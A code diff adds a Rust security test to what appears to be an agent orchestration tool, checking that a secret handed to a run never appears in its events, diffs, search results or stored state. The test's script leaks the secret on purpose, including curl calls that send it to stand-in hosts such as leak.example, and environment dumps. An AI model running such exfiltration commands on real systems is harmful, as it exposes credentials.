@@ -6,6 +6,8 @@ use crate::ground::Ground;
 use anyhow::{Context, Result, ensure};
 use foreman_domain::{CancelCause, EventKind, RunState};
 use foreman_testkit::{Arena, PATIENCE, repos, until};
+use std::io::Write;
+use std::process::Stdio;
 use std::time::{Duration, Instant};
 
 pub fn attacks() -> Vec<Attack> {
@@ -19,6 +21,7 @@ pub fn attacks() -> Vec<Attack> {
         ["E91"] priority_cannot_be_raised,
         ["E91"] a_spin_gets_its_share_and_no_more,
         ["E92"] tokens_of_the_operators_environment_stay_outside,
+        ["E94"] a_secret_that_a_run_was_handed_is_nowhere_to_be_read,
     ]
 }
 
@@ -325,4 +328,71 @@ fn tokens_of_the_operators_environment_stay_outside(ground: &Ground<'_>) -> Resu
         .shell(&state, "grep -rl SECRET-E92 . || true")?;
     ensure!(found.is_empty(), "kept on disk: {found}");
     Ok(())
+}
+
+/// Fit for a host name, so that it can be said there.
+const HANDED: &str = "e94-W1de-open-Sesame-77";
+
+fn a_secret_that_a_run_was_handed_is_nowhere_to_be_read(ground: &Ground<'_>) -> Result<()> {
+    let bench = &ground.stage.bench;
+    let data = bench.scratch("e94-data")?;
+    let product = ground.stage.product()?.with_data(&data);
+    let mut setting = product
+        .foreman(["secret", "set", "KEY", "--store", "file", "--json"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .spawn()?;
+    let mut input = setting.stdin.take().context("a pipe")?;
+    input.write_all(HANDED.as_bytes())?;
+    drop(input);
+    ensure!(setting.wait()?.success(), "the secret is not kept");
+    let repo = repos::plain(bench, "e94")?;
+    // Said in every way that a careless program has: to both streams, in pieces with a pause, encoded, wrapped,
+    // as an argument, a program's name, a file's name, a host's name, an address with a password, an error.
+    let script = r#"echo "out $KEY"; echo "err $KEY" >&2; echo "$KEY" | tr a-z A-Z
+        a=${KEY%-*}; printf '%s' "$a"; python3 -c 'import time; time.sleep(0.8)' || true; printf '%s\n' "${KEY#"$a"}"
+        printf '%s' "$KEY" | base64; printf 'x%s' "$KEY" | base64 | fold -w 7; printf '%s' "$KEY" | od -An -tx1 | tr -d ' '
+        printf '{"key":"%s"}' "$KEY"; sh -c : "$KEY"; cp /bin/true "/tmp/$KEY"; "/tmp/$KEY"; "/nowhere/$KEY"
+        mkdir "$KEY"; echo "$KEY" > "$KEY/file"; echo x > "/srv/$KEY"; cat "/srv/$KEY"
+        curl -sS -m 20 "http://$KEY.leak.example/"; curl -sS -m 20 "http://u:$KEY@refused.example/?k=$KEY"
+        git -c user.name=a -c user.email=a@example.org commit -q --allow-empty -m "message $KEY"
+        env; export -p; echo looked"#;
+    let options = [
+        "--secret",
+        "KEY",
+        "--unattended",
+        "--check",
+        "cat */file; env",
+    ];
+    let run = product.run_to_end(&repo, &options, &["bash", "-c", script])?;
+    run.said("looked")?;
+    run.said("out ‹secret KEY›")?;
+    let id = run.id()?;
+    let (bare, encoded) = (HANDED.to_lowercase(), "VzFkZS1vcGVuLVNlc2FtZS");
+    let says = |text: &str| text.to_lowercase().contains(&bare) || text.contains(encoded);
+    for arguments in [
+        &["events", &id, "--json"][..],
+        &["events", &id],
+        &["diff", &id, "--json"],
+        &["diff", &id],
+        &["show", &id, "--json"],
+        &["blocks", "--all", "--json"],
+        &["search", "Sesame", "--json"],
+        &["runs"],
+    ] {
+        let ran = product.call(arguments)?;
+        ensure!(
+            !says(&ran.stdout) && !says(&ran.stderr),
+            "{arguments:?}: {ran:?}"
+        );
+    }
+    // The state of the engine, byte by byte, and its log; the worktree has it, because the agent wrote it there.
+    let state = data.join("state");
+    let kept = bench.shell(
+        &state,
+        &format!("grep -rlaiF -e {HANDED} -e {encoded} . | grep -vx ./secrets.json || true"),
+    )?;
+    ensure!(kept.is_empty(), "kept in {kept}");
+    ground.nothing_with(HANDED)?;
+    ground.nothing_with(&bare)
 }
